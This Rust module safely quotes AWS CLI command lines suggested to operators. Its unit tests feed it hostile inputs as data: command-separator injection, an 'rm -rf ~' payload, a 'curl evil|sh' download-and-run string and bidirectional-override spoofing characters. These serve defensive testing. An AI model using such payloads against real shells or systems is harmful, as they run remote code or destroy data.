//! Command lines suggested to the operator: every argument quoted for a POSIX shell and every structured parameter
//! built as JSON and quoted as one argument, so text from an event or an instance (alarm, group and tag names, mount
//! paths, regions) is always one literal argument when a command is pasted — never code on the operator's machine.

use serde_json::Value;

/// Longest argument shown whole. No real alarm name (255), group name (255) or path dimension (1,024) is longer; a
/// longer value becomes its placeholder rather than a cut (a cut value is a different argument).
pub const MAX_ARG_CHARS: usize = 1024;

/// A command line being built, word by word.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Command {
    words: Vec<String>,
    /// The shell variable the command's output is captured into (`name=$(aws …)`), for a later command to use.
    into: Option<&'static str>,
}

impl Command {
    /// Start a command with our own words (`aws ec2 describe-instance-status`).
    pub fn new(words: &str) -> Self {
        Command::default().lit(words)
    }

    /// The command's `n`th word (`aws ec2 describe-instances`: 2 is `describe-instances`).
    pub fn word(&self, n: usize) -> Option<&str> {
        self.words.get(n).map(String::as_str)
    }

    /// Whether its output is captured into a shell variable for a later command (`name=$(aws …)`).
    pub fn captures(&self) -> bool {
        self.into.is_some()
    }

    /// Whether the command starts with these words (`aws ec2 stop-instances`).
    pub fn runs(&self, words: &str) -> bool {
        let words: Vec<&str> = words.split(' ').collect();
        self.words.len() >= words.len() && self.words.iter().zip(&words).all(|(a, b)| a == b)
    }

    /// More of our own fixed words (`--include-all-instances`, `--max-records 5`), split at spaces. Never text from
    /// an event or an instance: that goes through [`Command::arg`], [`Command::name`] or [`Command::json`].
    pub fn lit(mut self, words: &str) -> Self {
        debug_assert!(
            words.split(' ').all(|w| word(w) == w),
            "literal words need no quoting: {words:?}"
        );
        self.words.extend(
            words
                .split(' ')
                .filter(|w| !w.is_empty())
                .map(str::to_string),
        );
        self
    }

    /// An option and its value (an id, a region, a type), the value bare when it needs no quotes.
    pub fn arg(self, option: &str, placeholder: &str, value: &str) -> Self {
        self.option(option, placeholder, value, word)
    }

    /// An option and a name from the account (alarm, group, volume, path): always in single quotes, so the operator
    /// sees where it starts and ends.
    pub fn name(self, option: &str, placeholder: &str, value: &str) -> Self {
        self.option(option, placeholder, value, quote)
    }

    /// An option taking several names (`--alarm-names a b`), each quoted like [`Command::name`].
    pub fn names(self, option: &str, placeholder: &str, values: &[&str]) -> Self {
        self.list(option, placeholder, values, quote)
    }

    /// An option taking several values (`--volume-ids vol-1 vol-2`), each like [`Command::arg`].
    pub fn values(self, option: &str, placeholder: &str, values: &[&str]) -> Self {
        self.list(option, placeholder, values, word)
    }

    /// When a value starts with `-`, the AWS CLI would read it as an option of its own, so the list goes as one
    /// JSON array instead (the CLI reads a list parameter given as JSON).
    fn list(
        mut self,
        option: &str,
        placeholder: &str,
        values: &[&str],
        quoting: fn(&str) -> String,
    ) -> Self {
        let raw: Vec<Option<&str>> = values.iter().map(|v| shown(v)).collect();
        self.words.push(option.to_string());
        if raw.iter().flatten().any(|v| v.starts_with('-')) {
            let list: Vec<&str> = raw.iter().map(|v| v.unwrap_or(placeholder)).collect();
            self.words.push(json_word(&Value::from(list)));
        } else {
            self.words.extend(
                raw.iter()
                    .map(|v| v.map_or_else(|| placeholder.to_string(), quoting)),
            );
        }
        self
    }

    /// An operand — a positional argument, like the key of `ec2ops incidents show KEY` — written like
    /// [`Command::arg`]'s value. One starting with `-` comes after `--`, so the program cannot read it as an option.
    pub fn operand(mut self, placeholder: &str, value: &str) -> Self {
        match shown(value) {
            Some(v) => {
                if v.starts_with('-') {
                    self.words.push("--".to_string());
                }
                self.words.push(word(v));
            }
            None => self.words.push(placeholder.to_string()),
        }
        self
    }

    /// An option whose value is a structure (SSM `--parameters`, `--tags`): serialized with serde_json, quoted as
    /// one argument. Always exact: JSON escapes whatever could not be shown on one line.
    pub fn json(mut self, option: &str, value: &Value) -> Self {
        self.words.push(option.to_string());
        self.words.push(json_word(value));
        self
    }

    fn option(
        mut self,
        option: &str,
        placeholder: &str,
        value: &str,
        quoting: fn(&str) -> String,
    ) -> Self {
        // A placeholder is our own word: bare, so it reads as something to fill in.
        let (raw, text) = match shown(value) {
            Some(v) => (v, quoting(v)),
            None => (placeholder, placeholder.to_string()),
        };
        if raw.starts_with('-') {
            // `--region -x` is an option without its value to the AWS CLI; `--region=-x` is the value.
            self.words.push(format!("{option}={text}"));
        } else {
            self.words.push(option.to_string());
            self.words.push(text);
        }
        self
    }

    /// Capture the command's output in the shell variable `var` (`var=$(aws … --output text)`), so the next
    /// command of the sequence runs as written with `"$var"` instead of a placeholder to fill in by hand.
    pub fn into_var(mut self, var: &'static str) -> Self {
        debug_assert!(is_var(var), "a shell variable name: {var:?}");
        self.into = Some(var);
        self
    }

    /// An option whose value is a variable an earlier command of the sequence captured (`"$var"`).
    pub fn var(mut self, option: &str, var: &'static str) -> Self {
        debug_assert!(is_var(var), "a shell variable name: {var:?}");
        self.words.push(option.to_string());
        self.words.push(format!("\"${var}\""));
        self
    }

    /// An option whose value is a shell arithmetic expansion of captured variables (`$((desired+1))`): our own
    /// text, one word without spaces.
    pub fn arithmetic(mut self, option: &str, expression: &'static str) -> Self {
        debug_assert!(
            expression
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "_+-*".contains(c)),
            "an arithmetic expression of variables and numbers: {expression:?}"
        );
        self.words.push(option.to_string());
        self.words.push(format!("$(({expression}))"));
        self
    }

    /// The command line, words separated by one space; `var=$(…)` around it when its output is captured.
    pub fn render(&self) -> String {
        let line = self.words.join(" ");
        match self.into {
            Some(var) => format!("{var}=$({line})"),
            None => line,
        }
    }
}

/// A lower-case shell variable name of our own (`command_id`).
fn is_var(s: &str) -> bool {
    s.chars().next().is_some_and(|c| c.is_ascii_lowercase())
        && s.chars().all(|c| c.is_ascii_lowercase() || c == '_')
}

/// `s` as one word for a POSIX shell: in single quotes, each `'` written `'\''`. Exact for any text (newlines
/// included): nothing inside single quotes is special to the shell.
pub fn quote(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        if c == '\'' {
            out.push_str(r"'\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

/// `s` bare when every character is one a POSIX shell takes literally anywhere in a word (letters, digits,
/// `-_./:=,@%+`), else [`quote`]d. The empty string is quoted: bare it would be no word at all; so is a leading
/// `=`, which zsh (the macOS default shell) expands to a command's path.
pub fn word(s: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=,@%+".contains(c);
    if !s.is_empty() && !s.starts_with('=') && s.chars().all(plain) {
        s.to_string()
    } else {
        quote(s)
    }
}

/// Characters a one-line command cannot show as they are: control characters (line breaks, tabs, escapes, C1),
/// Unicode line and paragraph separators, and bidirectional formatting characters, which would make the command on
/// screen read differently from the one that runs.
pub fn hidden(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}' | '\u{061c}'
        )
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// `s` when the report can show it exactly in a command: short enough and nothing [`hidden`].
fn shown(s: &str) -> Option<&str> {
    (s.chars().count() <= MAX_ARG_CHARS && !s.chars().any(hidden)).then_some(s)
}

/// A remote command's argument (inside SSM `commands`): a [`word`] for the instance's shell, exact for any text
/// since JSON carries it; `placeholder` when it is too long to show.
pub fn remote_word(placeholder: &str, s: &str) -> String {
    if s.chars().count() <= MAX_ARG_CHARS {
        word(s)
    } else {
        placeholder.to_string()
    }
}

/// `value` as compact JSON in one quoted word. serde_json escapes C0 controls; the other [`hidden`] characters are
/// written `\uXXXX` too (they can only be inside JSON strings, where that escape means the same character).
fn json_word(value: &Value) -> String {
    let text = value.to_string();
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if hidden(c) {
            let mut units = [0u16; 2];
            for u in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{u:04x}"));
            }
        } else {
            out.push(c);
        }
    }
    quote(&out)
}

/// A command inside chat markdown's backticks. Slack has no escape for a backtick in inline code, so one is shown
/// as `ˋ` (U+02CB): every backtick of a rendered command is inside single quotes, where swapping it for another
/// ordinary character cannot end the quote — the command stays inert, the name just will not match.
pub fn markdown_code(cmd: &str) -> String {
    cmd.replace('`', "\u{2cb}")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_single_quote_closes_escapes_and_reopens() {
        assert_eq!(quote("a'b"), r"'a'\''b'");
        assert_eq!(quote(""), "''");
    }

    #[test]
    fn plain_values_stay_bare_and_anything_else_is_quoted() {
        assert_eq!(word("ap-northeast-2"), "ap-northeast-2");
        assert_eq!(word("i-0ae3d067021f08710"), "i-0ae3d067021f08710");
        assert_eq!(word("us-east-1;reboot"), "'us-east-1;reboot'");
        assert_eq!(word("~"), "'~'");
        assert_eq!(word("=ls"), "'=ls'");
        assert_eq!(word(""), "''");
    }

    #[test]
    fn a_value_starting_with_a_dash_is_attached_to_its_option() {
        let c = Command::new("aws cloudwatch describe-alarms")
            .name("--alarm-names", "ALARM_NAME", "--endpoint-url=http://evil")
            .arg("--region", "REGION", "-x");
        assert_eq!(
            c.render(),
            "aws cloudwatch describe-alarms --alarm-names='--endpoint-url=http://evil' --region=-x"
        );
    }

    #[test]
    fn a_list_with_a_dash_name_goes_as_one_json_array() {
        let c = Command::new("aws cloudwatch describe-alarms").names(
            "--alarm-names",
            "ALARM_NAME",
            &["a", "-b"],
        );
        assert_eq!(
            c.render(),
            r#"aws cloudwatch describe-alarms --alarm-names '["a","-b"]'"#
        );
    }

    #[test]
    fn what_cannot_be_shown_on_one_line_becomes_the_placeholder() {
        let c = Command::new("aws autoscaling describe-auto-scaling-groups").name(
            "--auto-scaling-group-names",
            "ASG_NAME",
            "web\nrm -rf ~",
        );
        assert_eq!(
            c.render(),
            "aws autoscaling describe-auto-scaling-groups --auto-scaling-group-names ASG_NAME"
        );
        assert!(shown(&"x".repeat(MAX_ARG_CHARS + 1)).is_none());
        assert!(shown("\u{202e}evil").is_none());
    }

    #[test]
    fn an_operand_is_one_word_after_dashes_when_it_starts_with_one_and_a_placeholder_when_hidden() {
        let show = |key: &str| {
            Command::new("ec2ops incidents show")
                .operand("KEY", key)
                .render()
        };
        assert_eq!(
            show("x';curl evil|sh;'#ALARM#t"),
            r"ec2ops incidents show 'x'\'';curl evil|sh;'\''#ALARM#t'"
        );
        assert_eq!(show("-x#ALARM#t"), "ec2ops incidents show -- '-x#ALARM#t'");
        assert_eq!(show("a\u{202e}b"), "ec2ops incidents show KEY");
        assert_eq!(show("plain"), "ec2ops incidents show plain");
    }

    #[test]
    fn json_escapes_every_hidden_character() {
        let w = json_word(&json!({"commands": ["a\u{85}b\u{202e}c\nd"]}));
        assert_eq!(w, r#"'{"commands":["a\u0085b\u202ec\nd"]}'"#);
        assert!(!w.chars().any(hidden));
    }
}
